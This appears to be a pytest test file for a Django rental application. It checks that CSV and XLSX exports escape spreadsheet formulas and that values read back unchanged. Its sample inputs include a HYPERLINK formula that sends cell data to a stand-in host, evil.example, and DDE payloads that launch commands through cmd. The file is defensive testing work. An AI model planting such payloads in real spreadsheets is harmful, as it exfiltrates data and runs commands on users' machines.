"""No formula leaves as a formula; what RentalBridge writes it reads back to the same value (issue 10, 2).

OWASP's CSV-injection guidance names the leading characters a spreadsheet evaluates: = + - @ tab CR.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from assets.models import Depot
from assets.resources import DepotResource
from customers.models import Customer
from customers.resources import CustomerResource
from rentalbridge.customfields.models import CustomFieldDefinition, CustomFieldValue
from rentalbridge.imports.formulae import neutralise, restore
from rentalbridge.imports.registry import ENTITIES, resource_for
from tests import factories
from tests.imports.helpers import csv_bytes, do_import

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
DANGEROUS = [
    HYPERLINK,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_each_leading_character_a_spreadsheet_evaluates_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["-12.50", "-7", "Kystbyg", "", "a=b", " =1", None, Decimal("-3.5"), 42])
def test_plain_values_and_negative_numbers_are_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''-x", "'", "'quoted'", "'-5"])
def test_values_that_really_start_with_an_apostrophe_survive_the_round_trip(value):
    assert restore(neutralise(value)) == value


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def hostile(db):
    """Values a clerk could type or an ERP could send, and negative numbers that must stay numbers."""
    customer = factories.customer(
        external_reference="CUS-1", name=HYPERLINK, phone="+45 75 12 34 56", city="@home"
    )
    Depot.objects.create(
        external_reference="DEP-CPT",
        name="-Cape Town",
        latitude=Decimal("-33.918861"),
        longitude=Decimal("18.4233"),
    )
    definition = CustomFieldDefinition.objects.create(
        key="temp", entity_type="CUSTOMER", title="T", type="NUMBER"
    )
    CustomFieldValue.objects.create(definition=definition, record=customer, value=-3.5)
    return customer


def test_the_admin_csv_export_writes_no_live_formula_and_keeps_negative_numbers(
    hostile, admin_client_for, superuser
):
    client = admin_client_for(superuser)
    customers = csv_rows(export(client, "customers", "customer", CustomerResource, "0"))
    header, row = customers
    cell = dict(zip(header, row, strict=True))
    assert cell["name"] == "'" + HYPERLINK
    assert cell["phone"] == "'+45 75 12 34 56"
    assert cell["city"] == "'@home"
    depot = dict(zip(*csv_rows(export(client, "assets", "depot", DepotResource, "0")), strict=True))
    assert depot["name"] == "'-Cape Town"
    assert (depot["latitude"], depot["longitude"]) == ("-33.918861", "18.423300")


def test_the_admin_xlsx_export_holds_text_cells_not_formulas(hostile, admin_client_for, superuser):
    client = admin_client_for(superuser)
    workbook = export(client, "customers", "customer", CustomerResource, "1")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert name.data_type == "s"
    assert name.value == "'" + HYPERLINK
    depots = openpyxl.load_workbook(io.BytesIO(export(client, "assets", "depot", DepotResource, "1"))).active
    header = [cell.value for cell in depots[1]]
    latitude = depots.cell(row=2, column=header.index("latitude") + 1)
    assert latitude.data_type == "n"
    assert latitude.value == pytest.approx(-33.918861)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def export(client, app: str, model: str, resource_class, file_format: str) -> bytes:
    prefix = resource_class.__name__.lower()
    fields = {f"{prefix}_{name}": "on" for name in resource_class().get_export_order()}
    response = client.post(
        reverse(f"admin:{app}_{model}_export"), {"format": file_format, "resource": "0", **fields}
    )
    assert response.status_code == 200
    return response.getvalue()


@pytest.mark.parametrize("entity", ["customers", "depots", "custom-field-values"])
def test_export_then_import_of_escaped_cells_is_lossless(hostile, entity, tmp_path):
    path = tmp_path / f"{entity}.csv"
    call_command("export_csv", entity, str(path), stderr=io.StringIO())
    assert not any(cell.startswith(("=", "+", "@")) for row in csv_rows(path.read_bytes()) for cell in row)
    report = do_import(entity, path.read_bytes())
    assert not report.refused, [str(e) for e in report.errors] or report.message
    assert (report.new, report.updated, report.unchanged) == (0, 0, report.rows_total)
    hostile.refresh_from_db()
    assert (hostile.name, hostile.phone) == (HYPERLINK, "+45 75 12 34 56")
    assert Depot.objects.get().latitude == Decimal("-33.918861")
    assert CustomFieldValue.objects.get().value == -3.5


def test_an_escaped_cell_imports_as_its_value_and_a_new_negative_number_as_a_number(db):
    data = csv_bytes(
        "external_reference,name,latitude,longitude",
        "DEP-1,'=1+1,-33.5,-18.25",
        "DEP-2,'-Cape Town,'-1.5,18",
    )
    report = do_import("depots", data)
    assert report.written, [str(e) for e in report.errors]
    first, second = Depot.objects.order_by("external_reference")
    assert (first.name, first.latitude, first.longitude) == ("=1+1", Decimal("-33.5"), Decimal("-18.25"))
    assert (second.name, second.latitude) == ("-Cape Town", Decimal("-1.5"))


@pytest.mark.parametrize("entity", ENTITIES)
def test_templates_hold_no_live_formula(entity):
    rows = list(csv.reader(io.StringIO(resource_for(entity).template_csv())))
    assert len(rows) == 2
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_customer_template_example_phone_reads_back_as_typed(db):
    report = do_import("customers", resource_for("customers").template_csv().encode())
    assert report.written, [str(e) for e in report.errors]
    assert Customer.objects.get().phone == "+45 75 12 34 56"


def test_the_rejected_rows_file_neutralises_cells_and_reads_back_to_the_same_values(db):
    data = csv_bytes("external_reference,name,type", f'C1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",PIRATE')
    first = do_import("customers", data, valid_only=True)
    _header, row = csv_rows(first.rejected_csv)
    assert row[1] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    fixed = first.rejected_csv.replace(b"PIRATE", b"DEALER")
    again = do_import("customers", fixed)
    assert again.written, [str(e) for e in again.errors]
    assert Customer.objects.get().name == HYPERLINK
